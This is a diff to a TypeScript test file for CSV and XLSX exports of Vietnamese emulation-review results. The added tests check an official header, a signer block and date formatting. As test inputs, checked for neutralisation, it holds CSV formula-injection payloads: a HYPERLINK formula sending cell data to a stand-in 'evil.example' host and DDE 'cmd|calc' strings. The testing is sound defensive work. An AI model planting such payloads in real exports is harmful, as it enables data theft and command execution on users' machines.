@@ -8,6 +8,8 @@ import type { PhaseAdjustment, PhaseExemption } from '../../../src/domain/snapsh
 import { buildSnapshotContent } from '../../../src/domain/snapshots/snapshot-content.js';
 import { parseInstant } from '../../../src/domain/time.js';
 import { snapshotCsv, snapshotXlsx } from '../../../src/presentation/exports/snapshot-export.js';
+import { placeDateLine } from '../../../src/presentation/exports/frame-lines.js';
+import type { ExportFrame } from '../../../src/config/export-frame.js';
 import { checksum } from '../../../src/infra/snapshots/checksum.js';
 import type { StoredSnapshot } from '../../../src/infra/store/snapshot-store.js';
 import { config } from '../../factories/dataset.factory.js';
@@ -517,6 +519,113 @@ describe('CSV review export', () => {
     expect(text(csv.decisions)).toContain(
       `Đơn vị,KHTC,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",-5.00,Hội đồng thi đua,` +
         `25/06/2025 09:05,"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+    );
+  });
+});
+
+describe('Review export: the administrative frame (Nghị định 30/2020)', () => {
+  const frame: ExportFrame = {
+    superior: 'UBND TỈNH HÀ NAM',
+    agency: 'SỞ THÔNG TIN VÀ TRUYỀN THÔNG',
+    place: 'Hà Nam',
+    signers: [
+      { authority: null, title: 'NGƯỜI LẬP BIỂU', name: 'Lê Thị Ánh' },
+      { authority: 'TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG', title: 'CHỦ TỊCH', name: 'Nguyễn Văn An' },
+    ],
+  };
+  const s = snapshot();
+
+  it('opens the units sheet with the agency, the national motto and the frozen day, and closes it with the signers', async () => {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load((await snapshotXlsx(s, frame)) as unknown as ArrayBuffer);
+    const units = book.getWorksheet('Đơn vị')!;
+    // A merged cell's text once, from the cell it is merged into.
+    const texts = (r: number) => {
+      const out: unknown[] = [];
+      units.getRow(r).eachCell((cell) => {
+        if (cell.master.address === cell.address && typeof cell.value === 'string') out.push(cell.value);
+      });
+      return out;
+    };
+    expect(texts(1)).toEqual(['UBND TỈNH HÀ NAM', 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM']);
+    expect(texts(2)).toEqual(['SỞ THÔNG TIN VÀ TRUYỀN THÔNG', 'Độc lập - Tự do - Hạnh phúc']);
+    // Frozen 30/06/2025 17:00 local time.
+    expect(texts(3)).toEqual(['Hà Nam, ngày 30 tháng 6 năm 2025']);
+    expect(units.getCell('A1').font.bold).toBeFalsy();
+    expect(units.getCell('A2').font.bold).toBe(true);
+    // Then the title and the table, four rows lower; the header still repeats on every page.
+    expect(units.getCell('A5').value).toBe('Kết quả thi đua — Sơ kết 2025-1');
+    expect(rowValues(units, 8).slice(0, 3)).toEqual(['Hạng', 'Mã', 'Tên đơn vị']);
+    expect(units.pageSetup).toEqual(
+      expect.objectContaining({
+        paperSize: 9,
+        orientation: 'landscape',
+        fitToWidth: 1,
+        printTitlesRow: '8:8',
+      }),
+    );
+    // Below the notes: the signers side by side, titles over blank rows over names.
+    const all: string[][] = [];
+    for (let r = 11; r <= units.rowCount; r++) all.push(texts(r) as string[]);
+    const signing = all.filter((t) => t.length > 0 && !t[0].includes('='));
+    expect(signing.slice(-3)).toEqual([
+      ['TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG'],
+      ['NGƯỜI LẬP BIỂU', 'CHỦ TỊCH'],
+      ['Lê Thị Ánh', 'Nguyễn Văn An'],
+    ]);
+    const nameRow = units.rowCount;
+    expect(units.getRow(nameRow).getCell(1).value).toBe('Lê Thị Ánh');
+    expect(units.getRow(nameRow - 1).getCell(1).value).toBeNull();
+    // Only the first sheet carries the frame.
+    expect(book.getWorksheet('Cá nhân')!.getCell('A1').value).toBe('Kết quả thi đua — Sơ kết 2025-1');
+  });
+
+  it('is the same file every time for the same version and frame, and differs from the unframed file', async () => {
+    const a = await snapshotXlsx(s, frame);
+    await new Promise((resolve) => setTimeout(resolve, 1100));
+    expect((await snapshotXlsx(s, frame)).equals(a)).toBe(true);
+    expect((await snapshotXlsx(s)).equals(a)).toBe(false);
+    expect(snapshotCsv(s, frame).units.equals(snapshotCsv(s, frame).units)).toBe(true);
+  });
+
+  it('writes the frame as leading and trailing CSV lines, text a spreadsheet cannot run', () => {
+    const lines = snapshotCsv(s, frame).units.toString('utf8').slice(1).split('\r\n');
+    expect(lines.slice(0, 4)).toEqual([
+      'UBND TỈNH HÀ NAM,CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
+      'SỞ THÔNG TIN VÀ TRUYỀN THÔNG,Độc lập - Tự do - Hạnh phúc',
+      ',"Hà Nam, ngày 30 tháng 6 năm 2025"',
+      '',
+    ]);
+    expect(lines[4]).toMatch(/^"?Kết quả thi đua — Sơ kết 2025-1\. Bảng 1\. /);
+    expect(lines.slice(-5)).toEqual([
+      '',
+      ',"TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG"',
+      'NGƯỜI LẬP BIỂU,CHỦ TỊCH',
+      'Lê Thị Ánh,Nguyễn Văn An',
+      '',
+    ]);
+    // The other sheets' files are as without a frame.
+    expect(snapshotCsv(s, frame).people.equals(snapshotCsv(s).people)).toBe(true);
+    const hostile = snapshotCsv(s, {
+      ...frame,
+      place: '=cmd|calc',
+      signers: [{ authority: null, title: 'X', name: '@SUM(1)' }],
+    });
+    const text = hostile.units.toString('utf8');
+    expect(text).toContain(`,"'=cmd|calc, ngày 30 tháng 6 năm 2025"`);
+    expect(text).toContain(`"'@SUM(1)"`);
+  });
+
+  it('writes a day below 10 and the months 1 and 2 with a leading zero', () => {
+    expect(placeDateLine('Hà Nam', parseInstant('2025-02-05T10:00:00+07:00')!)).toBe(
+      'Hà Nam, ngày 05 tháng 02 năm 2025',
+    );
+    expect(placeDateLine('Hà Nam', parseInstant('2025-11-20T23:30:00+07:00')!)).toBe(
+      'Hà Nam, ngày 20 tháng 11 năm 2025',
+    );
+    // 17:30 UTC on 31/12 is already 1 January in Hà Nội.
+    expect(placeDateLine('Phủ Lý', parseInstant('2025-12-31T17:30:00Z')!)).toBe(
+      'Phủ Lý, ngày 01 tháng 01 năm 2026',
     );
   });
 });
